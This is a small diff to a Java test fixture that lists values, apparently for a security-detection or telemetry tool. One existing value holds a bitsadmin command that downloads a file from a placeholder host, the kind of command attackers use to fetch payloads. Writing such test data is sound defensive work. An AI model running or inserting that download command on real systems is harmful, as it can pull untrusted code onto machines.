@@ -156,6 +156,7 @@ final class Subjects {
         new Value("hosts[0].uses[0].first", "2026-03-02T08:00:00Z"),
         new Value("hosts[0].uses[0].last", "2026-03-05T10:00:00Z"),
         new Value("hosts[0].uses[0].example", "bitsadmin /transfer n http://x.example/a a"),
+        new Value("cases[1].id", "BH-0000000002"),
         new Value("cases[1].creator.image", "C:\\Program Files\\House\\agent.exe"),
         new Value("cases[1].destinations[0].host", "repo.corp.example"),
         new Value("cases[1].destinations[1].host", "a\"b"));
